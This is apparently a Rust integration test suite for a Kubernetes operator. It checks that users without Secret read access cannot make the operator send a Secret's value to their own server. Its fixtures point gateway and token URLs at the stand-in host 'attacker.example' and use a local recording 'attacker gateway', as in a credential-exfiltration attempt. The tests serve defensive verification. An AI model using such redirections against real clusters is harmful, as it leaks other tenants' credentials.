//! The trust model against a real control plane (docs/resources.md, "Trust model"): a
//! namespace user who may create FrameworkConnections and ListenerRegistrations but not
//! read Secrets cannot make the operator deliver a Secret's value to a server of theirs.
//!
//! - the webhook refuses, by SubjectAccessReview, a resource whose author may not `get`
//!   a Secret it references (the user is a ServiceAccount with a TokenRequest token);
//! - the operator reads no Secret without the label `cxf.dev/credentials: "true"`: the
//!   condition says why, and a local HTTP server standing in for the attacker's gateway
//!   receives nothing until the Secret's owner adds the label.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::http::StatusCode;
use cxf_operator::controller::{self, Settings};
use cxf_operator::desired::credentials::HashKey;
use cxf_operator::metrics::Metrics;
use cxf_operator::resources::FrameworkConnection;
use cxf_operator::resources::conditions::REASON_SECRET_NOT_OPTED_IN;
use k8s_openapi::api::authentication::v1::{TokenRequest, TokenRequestSpec};
use k8s_openapi::api::core::v1::{Secret, ServiceAccount};
use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
use kube::api::{ObjectMeta, Patch, PatchParams, PostParams};
use kube::config::AuthInfo;
use kube::{Api, Client};
use serde_json::{Value, json};

use super::support::{self, TestNamespace};
use super::webhook::RunningWebhook;

const CLIENT_SECRET: &str = "victim-client-s3cret";

/// A client acting as ServiceAccount `name` of `namespace`, which may do `rules` there.
async fn user(client: &Client, namespace: &str, name: &str, rules: Value) -> Client {
    let accounts: Api<ServiceAccount> = Api::namespaced(client.clone(), namespace);
    let account = ServiceAccount {
        metadata: ObjectMeta {
            name: Some(name.to_owned()),
            ..ObjectMeta::default()
        },
        ..ServiceAccount::default()
    };
    accounts
        .create(&PostParams::default(), &account)
        .await
        .unwrap();
    let role: Role =
        serde_json::from_value(json!({"metadata": {"name": name}, "rules": rules})).unwrap();
    Api::<Role>::namespaced(client.clone(), namespace)
        .create(&PostParams::default(), &role)
        .await
        .unwrap();
    let binding: RoleBinding = serde_json::from_value(json!({
        "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
        "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": namespace}],
    }))
    .unwrap();
    Api::<RoleBinding>::namespaced(client.clone(), namespace)
        .create(&PostParams::default(), &binding)
        .await
        .unwrap();
    let request = TokenRequest {
        spec: Some(TokenRequestSpec {
            expiration_seconds: Some(600),
            ..TokenRequestSpec::default()
        }),
        ..TokenRequest::default()
    };
    let token = accounts
        .create_token_request(name, &PostParams::default(), &request)
        .await
        .unwrap()
        .status
        .and_then(|status| status.token)
        .expect("a TokenRequest answer holds a token");
    let mut config = support::control_plane().config().await;
    config.auth_info = AuthInfo {
        token: Some(token.into()),
        ..AuthInfo::default()
    };
    Client::try_from(config).unwrap()
}

/// May create, read and change the two kinds that reference Secrets, and nothing else.
fn resource_rules() -> Value {
    json!([{
        "apiGroups": ["cxf.dev"],
        "resources": ["frameworkconnections", "listenerregistrations"],
        "verbs": ["get", "list", "watch", "create", "update", "patch"],
    }])
}

async fn secret(client: &Client, namespace: &str, name: &str, labels: Value) {
    let body = json!({
        "apiVersion": "v1", "kind": "Secret",
        "metadata": {"name": name, "labels": labels},
        "stringData": {"client-secret": CLIENT_SECRET},
    });
    Api::<Secret>::namespaced(client.clone(), namespace)
        .patch(
            name,
            &PatchParams::apply("test").force(),
            &Patch::Apply(body),
        )
        .await
        .unwrap();
}

fn connection(name: &str, gateway: &str, secret: &str) -> Value {
    json!({
        "apiVersion": "cxf.dev/v1alpha1", "kind": "FrameworkConnection",
        "metadata": {"name": name},
        "spec": {"gatewayUrl": gateway, "workspace": "01",
            "auth": {"oauth2": {"clientId": "operator", "clientSecret": {"name": secret, "key": "client-secret"}}}},
    })
}

fn listener(name: &str, url: &str, secret: &str) -> Value {
    json!({
        "apiVersion": "cxf.dev/v1alpha1", "kind": "ListenerRegistration",
        "metadata": {"name": name},
        "spec": {"listenerUrl": url,
            "affiliatedApis": [{"apiName": "taxCalculation", "apiVersion": "v1", "query": "*"}],
            "auth": {"oidcClientCredentials": {"identityUri": "https://attacker.example/token",
                "clientId": {"value": "c"}, "clientSecret": {"name": secret, "key": "client-secret"}}}},
    })
}

async fn create<K>(client: &Client, namespace: &str, body: Value) -> Result<K, kube::Error>
where
    K: kube::Resource<Scope = k8s_openapi::NamespaceResourceScope, DynamicType = ()>
        + Clone
        + serde::de::DeserializeOwned
        + serde::Serialize
        + std::fmt::Debug,
{
    let object: K = serde_json::from_value(body).unwrap();
    Api::<K>::namespaced(client.clone(), namespace)
        .create(&PostParams::default(), &object)
        .await
}

fn refusal(result: Result<impl std::fmt::Debug, kube::Error>) -> String {
    match result {
        Err(kube::Error::Api(status)) => {
            assert_eq!(status.code, 403, "{status:?}");
            status.message
        }
        other => panic!("expected the webhook to refuse, got {other:?}"),
    }
}

#[tokio::test]
async fn the_webhook_refuses_references_to_secrets_the_author_cannot_read() {
    let admin = support::control_plane().client().await;
    let ns = TestNamespace::create(&admin, "trust-webhook").await;
    let _webhook = RunningWebhook::start(&admin, ns.name()).await;
    secret(
        &admin,
        ns.name(),
        "victim",
        json!({"cxf.dev/credentials": "true"}),
    )
    .await;
    let tenant = user(&admin, ns.name(), "tenant", resource_rules()).await;
    let mut owner_rules = resource_rules();
    owner_rules.as_array_mut().unwrap().push(json!({
        "apiGroups": [""], "resources": ["secrets"], "resourceNames": ["victim"], "verbs": ["get"],
    }));
    let owner = user(&admin, ns.name(), "owner", owner_rules).await;
    let tenant_name = format!("system:serviceaccount:{}:tenant", ns.name());
    let victim = format!("Secret {}/victim", ns.name());

    // The tenant may create connections, but not one that reads a Secret they cannot.
    let message = refusal(
        create::<FrameworkConnection>(
            &tenant,
            ns.name(),
            connection("mine", "https://attacker.example", "victim"),
        )
        .await,
    );
    assert!(
        message.contains(&format!("user \"{tenant_name}\" may not get {victim}")),
        "{message}"
    );
    let message = refusal(
        create::<cxf_operator::resources::ListenerRegistration>(
            &tenant,
            ns.name(),
            listener("mine", "https://attacker.example", "victim"),
        )
        .await,
    );
    assert!(message.contains(&victim), "{message}");

    // Someone who may read it may reference it.
    create::<FrameworkConnection>(
        &owner,
        ns.name(),
        connection("default", "https://gw.example", "victim"),
    )
    .await
    .expect("the Secret's reader may reference it");

    // The tenant may change what does not decide where the value goes, not the rest.
    let connections: Api<FrameworkConnection> = Api::namespaced(tenant.clone(), ns.name());
    let merge = |spec: Value| Patch::Merge(json!({"spec": spec}));
    connections
        .patch(
            "default",
            &PatchParams::default(),
            &merge(json!({"requestsPerSecond": 7})),
        )
        .await
        .expect("a change that sends no value elsewhere is allowed");
    let message = refusal(
        connections
            .patch(
                "default",
                &PatchParams::default(),
                &merge(json!({"gatewayUrl": "https://attacker.example"})),
            )
            .await,
    );
    assert!(message.contains(&victim), "{message}");
    let message = refusal(
        connections
            .patch(
                "default",
                &PatchParams::default(),
                &merge(json!({"auth": {"oauth2": {"tokenUrl": "https://attacker.example/t"}}})),
            )
            .await,
    );
    assert!(message.contains(&victim), "{message}");
    let stored = Api::<FrameworkConnection>::namespaced(admin.clone(), ns.name())
        .get("default")
        .await
        .unwrap();
    assert_eq!(stored.spec.gateway_url, "https://gw.example");
}

/// A gateway that records every request it gets and answers 404.
#[derive(Clone, Default)]
struct AttackerGateway {
    requests: Arc<Mutex<Vec<String>>>,
}

impl AttackerGateway {
    async fn start(&self) -> String {
        let requests = Arc::clone(&self.requests);
        let app = Router::new().fallback(move |request: axum::extract::Request| {
            let requests = Arc::clone(&requests);
            async move {
                let (parts, body) = request.into_parts();
                let body = axum::body::to_bytes(body, 1 << 20)
                    .await
                    .unwrap_or_default();
                requests.lock().unwrap().push(format!(
                    "{} {} {}",
                    parts.method,
                    parts.uri,
                    String::from_utf8_lossy(&body)
                ));
                StatusCode::NOT_FOUND
            }
        });
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        format!("http://{addr}")
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// The `Ready` condition's reason and message, once the operator wrote one.
async fn ready(api: &Api<FrameworkConnection>, name: &str) -> Option<(String, String)> {
    let connection = api.get(name).await.ok()?;
    let condition = connection
        .status?
        .conditions
        .into_iter()
        .find(|c| c.type_ == "Ready")?;
    Some((condition.reason, condition.message))
}

#[tokio::test]
async fn the_operator_reads_no_secret_without_the_opt_in_label() {
    let admin = support::control_plane().client().await;
    let ns = TestNamespace::create(&admin, "trust-opt-in").await;
    let gateway = AttackerGateway::default();
    let url = gateway.start().await;
    let settings = Settings {
        namespaces: vec![ns.name().to_owned()],
        drift_interval: Duration::from_secs(60),
        credentials_key: HashKey::generate(),
        concurrency: controller::watch::DEFAULT_CONCURRENCY,
    };
    let controllers = tokio::spawn(controller::run(
        admin.clone(),
        settings,
        Arc::new(Metrics::default()),
    ));
    // A Secret that was never meant for the operator, and a connection pointing at the
    // attacker's gateway (created without the webhook: as if it were down or off).
    secret(&admin, ns.name(), "database", json!({"app": "db"})).await;
    create::<FrameworkConnection>(&admin, ns.name(), connection("default", &url, "database"))
        .await
        .unwrap();
    let api: Api<FrameworkConnection> = Api::namespaced(admin.clone(), ns.name());
    let (reason, message) = support::eventually("the SecretNotOptedIn condition", || async {
        ready(&api, "default")
            .await
            .filter(|(reason, _)| reason == REASON_SECRET_NOT_OPTED_IN)
    })
    .await;
    assert_eq!(reason, REASON_SECRET_NOT_OPTED_IN);
    assert!(
        message.contains(&format!(
            "kubectl label secret -n {} database cxf.dev/credentials=true",
            ns.name()
        )),
        "{message}"
    );
    assert!(!message.contains(CLIENT_SECRET), "{message}");
    assert_eq!(
        gateway.requests(),
        Vec::<String>::new(),
        "the gateway got requests"
    );

    // Once the Secret's owner opts it in, the operator reads it and calls the gateway:
    // the label was all that kept the value home.
    secret(
        &admin,
        ns.name(),
        "database",
        json!({"app": "db", "cxf.dev/credentials": "true"}),
    )
    .await;
    let requests = support::eventually("the gateway to be called", || async {
        let requests = gateway.requests();
        (!requests.is_empty()).then_some(requests)
    })
    .await;
    assert!(
        requests[0].starts_with("POST /oauth2/token"),
        "{requests:?}"
    );
    let (reason, _) = support::eventually("another Ready reason", || async {
        ready(&api, "default")
            .await
            .filter(|(reason, _)| reason != REASON_SECRET_NOT_OPTED_IN)
    })
    .await;
    assert_ne!(reason, REASON_SECRET_NOT_OPTED_IN);
    controllers.abort();
}
